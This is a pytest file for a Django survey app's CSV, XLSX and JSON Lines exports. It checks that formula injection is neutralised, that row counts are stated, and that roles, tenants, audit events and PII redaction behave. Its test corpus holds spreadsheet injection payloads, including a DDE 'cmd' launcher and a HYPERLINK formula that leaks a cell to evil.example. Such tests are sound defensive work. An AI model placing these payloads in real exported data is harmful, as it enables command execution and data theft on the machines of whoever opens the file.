"""Response exports (CSV, XLSX, JSON Lines): formula injection comes out inert, every stored row comes out
once, the row count is stated, small exports stream, large ones run as a job with progress and a download;
audit events, CLI, API, roles and tenants. Everything against the real database and real files."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.http import FileResponse, StreamingHttpResponse
from django.test import Client
from tests.conftest import run_tasks

from cxloop.core import export_format

pytestmark = pytest.mark.django_db

DEFINITION: dict[str, Any] = {
    "title": {"zh-hans": "门店体验", "en": "Store experience"},
    "default_language": "zh-hans",
    "languages": ["zh-hans", "en"],
    "embedded": [{"key": "store"}, {"key": "order_id"}],
    "pages": [{"key": "p1", "questions": [
        {"key": "nps", "type": "nps", "required": True, "text": {"zh-hans": "推荐吗？", "en": "Recommend?"}},
        {"key": "reason", "type": "open_text", "text": {"zh-hans": "原因？", "en": "Why?"}},
        {"key": "channels", "type": "multi_choice", "text": {"zh-hans": "渠道", "en": "Channels"},
         "options": [{"key": "phone", "text": {"zh-hans": "电话", "en": "Phone"}},
                     {"key": "chat", "text": {"zh-hans": "在线", "en": "Chat"}},
                     {"key": "other", "text": {"zh-hans": "其他", "en": "Other"}, "specify": True}]},
        {"key": "sus", "type": "sus"},
    ]}],
}

# Formula injection and awkward text: every one must come out as text, never as a formula.
CORPUS = [
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\r\n=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "'=already quoted", "''@twice",
    "中文：价格太贵，服务很好", "emoji 😀🎉👍", "commas, in, text", 'quotes "inside" text', "line one\nline two",
    "-", "=", "plain", "繁體中文：服務很好",
]
TRIGGERS = tuple("=+-@\t\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")  # a number written as a number (a stored -3), not text


@pytest.fixture
def survey(tenant_a: Any) -> Any:
    from cxloop.surveys import services

    s = services.create_survey(org=tenant_a.org, name="Store NPS", definition=DEFINITION, touchpoint="store")
    services.publish(survey=s)
    return s


def _record(survey: Any, answers: dict[str, Any], *, complete: bool = True, **extra: Any) -> int:
    from cxloop.surveys import services

    result = services.record_response(survey=survey, submission=services.Submission(
        answers=answers, complete=complete, **extra))
    assert result.status_code == 201, result.body
    return int(result.response_id)


@pytest.fixture
def corpus_survey(survey: Any) -> Any:
    """Responses whose free text, embedded values and contact names are the corpus, stored exactly as written
    (the capture path trims text, so the rows with leading tabs / carriage returns are written directly)."""
    from cxloop.surveys.models import Answer, Response

    for i, text in enumerate(CORPUS):
        rid = _record(survey, {"nps": i % 11, "channels": ["chat", "other"], "channels.specify": "x"},
                      embedded={"store": "SH01", "order_id": f"O-{i}"},
                      contact={"external_id": f"c-{i}", "email": f"c{i}@example.com", "name": f"name {i}"})
        Answer.objects.create(response_id=rid, question_key="reason", text=text)
        Answer.objects.filter(response_id=rid, question_key="channels").update(text=text)
        response = Response.objects.get(pk=rid)
        response.embedded = {**response.embedded, "store": text}
        response.save(update_fields=["embedded"])
        response.contact.name = text  # type: ignore[union-attr]
        response.contact.save(update_fields=["name"])  # type: ignore[union-attr]
    # A partial response (page one only), and a negative number stored as a number.
    _record(survey, {"nps": 3}, complete=False)
    rid = _record(survey, {"nps": 5})
    Answer.objects.filter(response_id=rid, question_key="nps").update(number=-3.0)
    return survey


def _plan(survey: Any, fmt: str, **kwargs: Any) -> Any:
    from cxloop.exports import services

    return services.plan(survey=survey, fmt=fmt, filters=services.check_options(fmt=fmt), **kwargs)


def _csv_bytes(survey: Any, **kwargs: Any) -> bytes:
    from cxloop.exports import services

    out = io.BytesIO()
    services.write(_plan(survey, "csv", **kwargs), out)
    return out.getvalue()


def _csv_rows(data: bytes) -> tuple[list[str], list[list[str]], list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return rows[0], rows[1:-1], rows[-1]


# --- neutralisation (pure) -------------------------------------------------------------------------


@pytest.mark.parametrize("text", CORPUS)
def test_neutralise_is_inert_and_reversible(text: str) -> None:
    cell = export_format.neutralise(text)
    assert not cell.startswith(TRIGGERS)
    if text.startswith(TRIGGERS):
        assert cell == "'" + text
    assert export_format.restore(cell) == text


def test_numbers_stay_numbers_and_strings_are_neutralised() -> None:
    layout = export_format.Layout(embedded=("n",), answers=("nps", "reason"))
    record = export_format.Record(id=1, submitted_at="2026-03-01T00:00:00Z", status="complete",
                                  embedded={"n": "-5"}, answers=[("nps", -3.0, [], ""), ("reason", None, [], "-5")])
    row = export_format.RowShaper(layout).row(record)
    assert row[-2] == -3 and isinstance(row[-2], int)
    assert row[-1] == "'-5" and row[len(export_format.FIXED_COLUMNS)] == "'-5"


# --- CSV ---------------------------------------------------------------------------------------------


def test_csv_corpus_is_inert_and_every_stored_row_comes_out(corpus_survey: Any) -> None:
    from cxloop.surveys.models import Answer, Response

    header, rows, trailer = _csv_rows(_csv_bytes(corpus_survey))
    assert header[:len(export_format.FIXED_COLUMNS)] == list(export_format.FIXED_COLUMNS)
    assert header[len(export_format.FIXED_COLUMNS):] == [
        "embedded.order_id", "embedded.store", "nps", "reason", "channels", "channels.specify",
        *[f"sus.q{i}" for i in range(1, 11)]]
    stored = Response.objects.filter(survey=corpus_survey)
    assert len(rows) == stored.count() == len(CORPUS) + 2
    assert trailer == [f"# end of export: {len(rows)} rows"]
    assert sorted(int(r[0]) for r in rows) == sorted(stored.values_list("id", flat=True))
    for row in rows:
        assert len(row) == len(header)
        for cell in row:
            assert not cell.startswith(TRIGGERS) or NUMBER.fullmatch(cell), cell
    col = {name: i for i, name in enumerate(header)}
    by_id = {int(r[0]): r for r in rows}
    for a in Answer.objects.filter(response__survey=corpus_survey, question_key="reason"):
        cell = by_id[a.response_id][col["reason"]]
        assert export_format.restore(cell) == a.text
        if a.text.startswith(TRIGGERS):
            assert cell == "'" + a.text
    for r in stored.select_related("contact"):
        row = by_id[r.pk]
        assert export_format.restore(row[col["embedded.store"]]) == r.embedded.get("store", "")
        assert row[col["status"]] == r.status
        assert row[col["submitted_at"]] == r.submitted_at.astimezone(export_format.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
        if r.contact:
            assert export_format.restore(row[col["contact_name"]]) == r.contact.name
    statuses = [r[col["status"]] for r in rows]
    assert statuses.count("partial") == 1 and statuses.count("complete") == len(rows) - 1
    assert "-3" in [r[col["nps"]] for r in rows]  # a number: no apostrophe
    assert {r[col["channels"]] for r in rows} >= {"chat|other"}


def test_csv_bom_option(survey: Any) -> None:
    _record(survey, {"nps": 9, "reason": "很好"})
    with_bom = _csv_bytes(survey, bom=True)
    without = _csv_bytes(survey)
    assert with_bom.startswith(b"\xef\xbb\xbf") and not without.startswith(b"\xef\xbb\xbf")
    assert with_bom[3:] == without
    assert "很好".encode() in without


def test_chunks_follow_ids_past_other_surveys_and_exclude_later_rows(survey: Any, tenant_a: Any) -> None:
    """More responses than one chunk, interleaved with another survey's: each stored row comes out once."""
    from cxloop.exports import services, source
    from cxloop.surveys import services as survey_services
    from cxloop.surveys.models import Answer, Response

    other = survey_services.create_survey(org=tenant_a.org, name="Other", definition=DEFINITION)
    survey_services.publish(survey=other)
    version = survey.versions.get()
    responses = []
    for i in range(source.CHUNK * 2 + 7):
        target = survey if i % 3 else other
        responses.append(Response(org=tenant_a.org, survey=target, status="complete" if i % 5 else "partial",
                                  version=version if target == survey else other.versions.get(),
                                  embedded={"store": f"S{i % 4}"}))
    Response.objects.bulk_create(responses)
    Answer.objects.bulk_create(Answer(response=r, question_key="nps", number=i % 11)
                               for i, r in enumerate(Response.objects.filter(survey=survey)))
    plan = _plan(survey, "csv")
    seen: list[int] = []
    out = io.BytesIO()
    rows = services.write(plan, out, progress=seen.append)
    # A response stored after the export began is not in it.
    _record(survey, {"nps": 1})
    stored = Response.objects.filter(survey=survey).count() - 1
    assert rows == plan.total == stored
    assert seen == sorted(seen) and seen[-1] == rows and len(seen) == 2
    _header, data, trailer = _csv_rows(out.getvalue())
    ids = [int(r[0]) for r in data]
    assert ids == sorted(ids) and len(set(ids)) == stored
    assert trailer == [f"# end of export: {stored} rows"]
    # Filters: only complete ones, only partial ones; together all.
    complete = services.write(services.plan(survey=survey, fmt="csv",
                                            filters=services.check_options(fmt="csv", status="complete")), io.BytesIO())
    partial = services.write(services.plan(survey=survey, fmt="csv",
                                           filters=services.check_options(fmt="csv", status="partial")), io.BytesIO())
    assert complete + partial == stored + 1 and partial > 0


def test_since_and_until(survey: Any) -> None:
    from datetime import UTC, datetime

    from cxloop.exports import services

    for day in (1, 2, 3):
        _record(survey, {"nps": day}, submitted_at=datetime(2026, 3, day, 12, tzinfo=UTC))
    filters = services.check_options(fmt="csv", since=datetime(2026, 3, 2, tzinfo=UTC),
                                     until=datetime(2026, 3, 3, tzinfo=UTC))
    _h, rows, _t = _csv_rows(b"".join(services.stream(services.plan(survey=survey, fmt="csv", filters=filters))))
    assert [r[1] for r in rows] == ["2026-03-02T12:00:00Z"]
    with pytest.raises(services.ExportError, match="until"):
        services.check_options(fmt="csv", since=datetime(2026, 3, 2, tzinfo=UTC),
                               until=datetime(2026, 3, 1, tzinfo=UTC))
    with pytest.raises(services.ExportError, match="format"):
        services.check_options(fmt="pdf")


# --- XLSX and JSON Lines -----------------------------------------------------------------------------


def _ooxml_unescape(text: str) -> str:
    """Control characters in XLSX text are written as _xHHHH_ (ECMA-376 ST_Xstring); Excel reads them back,
    openpyxl leaves inline strings as they are."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def test_xlsx_corpus_is_inert_text_and_states_its_rows(corpus_survey: Any) -> None:
    from cxloop.exports import services
    from cxloop.surveys.models import Answer, Response

    out = io.BytesIO()
    rows = services.write(_plan(corpus_survey, "xlsx"), out)
    out.seek(0)
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["responses", "export"]
    sheet = book["responses"]
    values = list(sheet.iter_rows(values_only=True))
    header = list(values[0])
    assert len(values) - 1 == rows == Response.objects.filter(survey=corpus_survey).count()
    for line in sheet.iter_rows():
        for cell in line:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(TRIGGERS), cell.value
    col = {name: i for i, name in enumerate(header)}
    by_id = {int(v[0]): v for v in values[1:]}  # type: ignore[arg-type]
    for a in Answer.objects.filter(response__survey=corpus_survey, question_key="reason"):
        cell = _ooxml_unescape(str(by_id[a.response_id][col["reason"]]))
        assert export_format.restore(cell) == a.text
        if a.text.startswith(TRIGGERS):
            assert cell.startswith("'")
    numbers = [v[col["nps"]] for v in values[1:]]
    assert -3 in numbers and all(isinstance(n, int | float) for n in numbers)
    facts = {row[0]: row[1] for row in book["export"].iter_rows(values_only=True)}
    assert facts["rows"] == rows and facts["complete"] == "true" and facts["survey_id"] == corpus_survey.pk


def test_jsonl_one_object_per_response_and_a_trailer(corpus_survey: Any) -> None:
    from cxloop.exports import services
    from cxloop.surveys.models import Response

    data = b"".join(services.stream(_plan(corpus_survey, "jsonl")))
    lines = [json.loads(line) for line in data.decode("utf-8").splitlines()]
    objects, trailer = lines[:-1], lines[-1]
    assert len(objects) == Response.objects.filter(survey=corpus_survey).count()
    assert trailer["_export"]["rows"] == len(objects) and trailer["_export"]["complete"] is True
    reasons = {o["answers"].get("reason") for o in objects}
    assert set(CORPUS) <= reasons  # JSON carries the text as stored
    first = objects[0]
    assert first["answers"]["channels"] == ["chat", "other"] and first["contact"]["external_id"] == "c-0"
    assert first["embedded"]["order_id"] == "O-0"


def test_an_export_imports_again(survey: Any, tenant_a: Any) -> None:
    from cxloop.surveys import importer
    from cxloop.surveys import services as survey_services
    from cxloop.surveys.models import Answer

    _record(survey, {"nps": 2, "reason": "=1+1 太慢", "channels": ["other"], "channels.specify": "@微信"},
            embedded={"store": "-SH01"}, contact={"external_id": "p-1", "email": "p1@example.com", "name": "王"})
    _record(survey, {"nps": 10, "sus": {f"q{i}": 3 for i in range(1, 11)}}, complete=False)
    data = _csv_bytes(survey, bom=True)
    copy = survey_services.create_survey(org=tenant_a.org, name="Copy", definition=DEFINITION)
    survey_services.publish(survey=copy)
    assert importer.import_csv(survey=copy, data=data) == 2
    original = {(a.question_key, a.number, tuple(a.choices), a.text)
                for a in Answer.objects.filter(response__survey=survey)}
    copied = {(a.question_key, a.number, tuple(a.choices), a.text)
              for a in Answer.objects.filter(response__survey=copy)}
    assert copied == original
    assert set(copy.responses.values_list("status", flat=True)) == {"complete", "partial"}
    assert copy.responses.get(status="complete").embedded["store"] == "-SH01"


# --- the pages --------------------------------------------------------------------------------------


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_small_export_streams_from_the_survey_page_and_is_audited(corpus_survey: Any, tenant_a: Any) -> None:
    from cxloop.orgs.models import AuditEvent

    client = _client(tenant_a.owner)
    page = client.get(f"/o/{tenant_a.org.slug}/surveys/{corpus_survey.pk}/")
    assert b'action="/o/acme-retail/surveys/' in page.content and b'name="bom"' in page.content
    response = client.post(f"/o/{tenant_a.org.slug}/surveys/{corpus_survey.pk}/exports/",
                           {"format": "csv", "bom": "on", "status": ""})
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse) and response.streaming
    assert not isinstance(response.streaming_content, list | bytes)  # a generator, not a built body
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="survey-' in response["Content-Disposition"]
    body = b"".join(response.streaming_content)  # type: ignore[arg-type]
    assert body.startswith(b"\xef\xbb\xbf")
    _header, rows, trailer = _csv_rows(body)
    assert trailer == [f"# end of export: {len(rows)} rows"] and len(rows) == len(CORPUS) + 2
    event = AuditEvent.objects.get(action="responses.exported")
    assert event.org == tenant_a.org and event.actor == tenant_a.owner
    assert event.data["rows"] == len(rows) and event.data["mode"] == "stream" and event.data["format"] == "csv"

    xlsx = client.post(f"/o/{tenant_a.org.slug}/surveys/{corpus_survey.pk}/exports/", {"format": "xlsx"})
    assert isinstance(xlsx, FileResponse)
    book = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)))  # type: ignore[arg-type]
    assert book["responses"].max_row == len(rows) + 1
    assert AuditEvent.objects.filter(action="responses.exported", data__format="xlsx").count() == 1


def test_large_export_runs_in_the_background_with_progress_and_download(
        survey: Any, tenant_a: Any, settings: Any, tmp_path: Path, django_capture_on_commit_callbacks: Any) -> None:
    from cxloop.exports.models import ExportJob
    from cxloop.orgs.models import AuditEvent

    settings.CXLOOP_DATA_DIR = tmp_path
    settings.CXLOOP_EXPORT_DIRECT_LIMIT = 2
    for score in (9, 10, 3):
        _record(survey, {"nps": score, "reason": "=cmd"})
    client = _client(tenant_a.owner)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/o/{tenant_a.org.slug}/surveys/{survey.pk}/exports/",
                               {"format": "csv", "until": "2099-01-01"})
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/o/{tenant_a.org.slug}/exports/{job.pk}/"
    assert job.status == "queued" and job.rows_total == 3 and job.requested_by == tenant_a.owner
    page = client.get(response["Location"])
    assert b'hx-trigger="every 2s"' in page.content and b"<progress" in page.content
    assert client.get(f"/o/{tenant_a.org.slug}/exports/{job.pk}/download/").status_code == 302  # not ready

    assert run_tasks() >= 1
    job.refresh_from_db()
    assert job.status == "done" and job.row_count == job.rows_done == 3 and job.percent == 100
    assert job.file_name.endswith("-3-rows.csv") and job.expires_at is not None
    path = tmp_path / "exports" / job.file_path
    assert path.is_file() and not list(path.parent.glob("*.part"))
    fragment = client.get(response["Location"], HTTP_HX_REQUEST="true")
    assert b"<html" not in fragment.content and b"hx-trigger" not in fragment.content  # polling stops
    assert f"/exports/{job.pk}/download/".encode() in fragment.content
    download = client.get(f"/o/{tenant_a.org.slug}/exports/{job.pk}/download/")
    assert isinstance(download, FileResponse) and download["X-Export-Rows"] == "3"
    _header, rows, trailer = _csv_rows(b"".join(download.streaming_content))  # type: ignore[arg-type]
    assert len(rows) == 3 and trailer == ["# end of export: 3 rows"]
    assert all(r[_header.index("reason")] == "'=cmd" for r in rows)
    actions = list(AuditEvent.objects.filter(org=tenant_a.org, action__startswith="e").values_list("action", flat=True))
    assert "exports.downloaded" in actions
    exported = AuditEvent.objects.get(action="responses.exported")
    assert exported.data["mode"] == "background" and exported.data["job_id"] == job.pk
    listing = client.get(f"/o/{tenant_a.org.slug}/surveys/{survey.pk}/exports/")
    assert f"/exports/{job.pk}/".encode() in listing.content


def test_expired_files_are_deleted(survey: Any, tenant_a: Any, settings: Any, tmp_path: Path,
                                   django_capture_on_commit_callbacks: Any) -> None:
    from datetime import timedelta

    from django.utils import timezone

    from cxloop.exports import services
    from cxloop.exports.models import ExportJob

    settings.CXLOOP_DATA_DIR = tmp_path
    _record(survey, {"nps": 8})
    with django_capture_on_commit_callbacks(execute=True):
        job = services.start_job(survey=survey, fmt="jsonl", filters=services.check_options(fmt="jsonl"))
    run_tasks()
    job.refresh_from_db()
    path = tmp_path / "exports" / job.file_path
    assert path.is_file()
    ExportJob.objects.filter(pk=job.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
    assert services.purge_expired() == 1
    job.refresh_from_db()
    assert job.status == "expired" and not path.exists()
    client = _client(tenant_a.owner)
    assert client.get(f"/o/{tenant_a.org.slug}/exports/{job.pk}/download/").status_code == 302


def test_viewer_may_not_export_and_other_orgs_get_404(survey: Any, tenant_a: Any, tenant_b: Any) -> None:
    from cxloop.exports import services

    job = services.start_job(survey=survey, fmt="csv", filters=services.check_options(fmt="csv"))
    viewer = _client(tenant_a.viewer)
    base = f"/o/{tenant_a.org.slug}"
    assert viewer.get(f"{base}/surveys/{survey.pk}/exports/").status_code == 403
    assert viewer.post(f"{base}/surveys/{survey.pk}/exports/", {"format": "csv"}).status_code == 403
    assert viewer.get(f"{base}/exports/{job.pk}/").status_code == 403
    assert b"export_format" not in viewer.get(f"{base}/surveys/{survey.pk}/").content  # no form for a viewer
    other = _client(tenant_b.owner)
    for url in (f"{base}/surveys/{survey.pk}/exports/", f"{base}/exports/{job.pk}/",
                f"{base}/exports/{job.pk}/download/", f"/o/{tenant_b.org.slug}/exports/{job.pk}/",
                f"/o/{tenant_b.org.slug}/exports/{job.pk}/download/"):
        assert other.get(url).status_code == 404, url


# --- the API ----------------------------------------------------------------------------------------


def test_api_streams_small_exports_and_runs_jobs(survey: Any, tenant_a: Any, tenant_b: Any, api_client: Any,
                                                 settings: Any, tmp_path: Path,
                                                 django_capture_on_commit_callbacks: Any) -> None:
    from cxloop.orgs.models import AuditEvent

    settings.CXLOOP_DATA_DIR = tmp_path
    _record(survey, {"nps": 9, "reason": "@SUM(A1)"})
    _record(survey, {"nps": 4}, complete=False)
    key = tenant_a.keys["admin"]
    url = f"/api/v1/surveys/{survey.pk}/responses/export"
    response = api_client.call("GET", f"{url}?format=jsonl", key)
    assert response.status_code == 200 and isinstance(response, StreamingHttpResponse)
    lines = [json.loads(line) for line in b"".join(response.streaming_content).decode().splitlines()]
    assert lines[-1]["_export"]["rows"] == 2 and {o["status"] for o in lines[:-1]} == {"complete", "partial"}
    only_complete = api_client.call("GET", f"{url}?format=csv&status=complete&bom=true", key)
    _h, rows, trailer = _csv_rows(b"".join(only_complete.streaming_content))
    assert len(rows) == 1 and trailer == ["# end of export: 1 rows"] and rows[0][_h.index("reason")] == "'@SUM(A1)"
    no_trailer = api_client.call("GET", f"{url}?format=csv&trailer=false", key)
    assert b"# end of export" not in b"".join(no_trailer.streaming_content)
    assert api_client.call("GET", f"{url}?format=pdf", key).json()["field"] == "format"
    assert api_client.call("GET", url, tenant_a.keys["viewer"]).status_code == 403
    assert api_client.call("GET", url, tenant_b.keys["owner"]).status_code == 404
    event = AuditEvent.objects.filter(action="responses.exported").first()
    assert event is not None and event.api_key is not None and event.data["via"] == "api"

    settings.CXLOOP_EXPORT_DIRECT_LIMIT = 1
    too_big = api_client.call("GET", url, key)
    assert too_big.status_code == 413 and "background" in too_big.json()["detail"]

    with django_capture_on_commit_callbacks(execute=True):
        started = api_client.call("POST", f"/api/v1/surveys/{survey.pk}/exports", key, body={"format": "xlsx"})
    assert started.status_code == 202, started.content
    job = started.json()
    assert job["status"] == "queued" and job["rows_total"] == 2 and job["download"] is None
    assert api_client.call("GET", f"/api/v1/exports/{job['id']}/download", key).status_code == 409
    assert api_client.call("GET", f"/api/v1/exports/{job['id']}", tenant_b.keys["owner"]).status_code == 404
    run_tasks()
    done = api_client.call("GET", f"/api/v1/exports/{job['id']}", key).json()
    assert done["status"] == "done" and done["row_count"] == 2 and done["percent"] == 100
    assert done["download"] == f"/api/v1/exports/{job['id']}/download"
    file = api_client.call("GET", done["download"], key)
    assert file.status_code == 200 and file["X-Export-Rows"] == "2"
    book = openpyxl.load_workbook(io.BytesIO(b"".join(file.streaming_content)))
    assert book["responses"].max_row == 3
    listed = api_client.call("GET", f"/api/v1/surveys/{survey.pk}/exports", key).json()
    assert [j["id"] for j in listed] == [job["id"]]
    assert AuditEvent.objects.filter(action="exports.downloaded", data__job_id=job["id"]).count() == 1
    assert api_client.call("POST", f"/api/v1/surveys/{survey.pk}/exports", tenant_a.keys["viewer"],
                           body={"format": "csv"}).status_code == 403


# --- the CLI ----------------------------------------------------------------------------------------


def test_cli_export_responses(corpus_survey: Any, tmp_path: Path) -> None:
    from cxloop.orgs.models import AuditEvent
    from cxloop.surveys.models import Response

    stored = Response.objects.filter(survey=corpus_survey).count()
    target = tmp_path / "out.csv"
    err = io.StringIO()
    call_command("cxexport", "responses", "--survey", str(corpus_survey.pk), "--format", "csv", "--bom",
                 "--out", str(target), stderr=err)
    assert f"Exported {stored} responses" in err.getvalue()
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    _h, rows, trailer = _csv_rows(data)
    assert len(rows) == stored and trailer == [f"# end of export: {stored} rows"]
    assert not list(tmp_path.glob("*.part"))

    xlsx = tmp_path / "out.xlsx"
    call_command("cxexport", "responses", "--survey", str(corpus_survey.pk), "--format", "xlsx", "--out", str(xlsx),
                 "--status", "complete", stderr=io.StringIO())
    assert openpyxl.load_workbook(xlsx)["responses"].max_row == stored  # the partial one left out, plus header

    out = io.StringIO()
    call_command("cxexport", "responses", "--survey", str(corpus_survey.pk), "--format", "jsonl",
                 "--since", "2000-01-01", stdout=out, stderr=io.StringIO())
    lines = out.getvalue().splitlines()
    assert json.loads(lines[-1])["_export"]["rows"] == stored == len(lines) - 1
    assert AuditEvent.objects.filter(action="responses.exported", data__via="cli").count() == 3

    from django.core.management import CommandError

    with pytest.raises(CommandError, match="No survey"):
        call_command("cxexport", "responses", "--survey", str(corpus_survey.pk), "--org", "nope")
    with pytest.raises(CommandError, match="XLSX needs a file"):
        call_command("cxexport", "responses", "--survey", str(corpus_survey.pk), "--format", "xlsx")


def test_personal_data_in_comments_is_hidden_when_the_organisation_asks(survey: Any, tenant_a: Any) -> None:
    """Issue 6: with "hide personal data" on, text answers come out with [phone], [email], [id], [card]; the
    stored answers are unchanged, and numbers and choices are untouched."""
    from cxloop.exports import services
    from cxloop.surveys.models import Answer

    said = "请打 +86 138 1234 5678 或写信 wang@example.com，身份证 11010519491231002X，卡号 6222 0202 0000 0000 006"
    rid = _record(survey, {"nps": 4, "reason": said})
    header, rows, _t = _csv_rows(_csv_bytes(survey))
    assert said in rows[0]  # off by default
    tenant_a.org.redact_pii = True
    tenant_a.org.save()
    for fmt in ("csv", "jsonl"):
        data = b"".join(services.stream(_plan(survey, fmt)))
        text = data.decode("utf-8-sig")
        for secret in ("138 1234 5678", "wang@example.com", "11010519491231002X", "6222 0202"):
            assert secret not in text, (fmt, secret)
        for placeholder in ("[phone]", "[email]", "[id]", "[card]"):
            assert placeholder in text, (fmt, placeholder)
    header, rows, _t = _csv_rows(_csv_bytes(survey))
    assert rows[0][header.index("nps")] == "4"
    assert Answer.objects.get(response_id=rid, question_key="reason").text == said
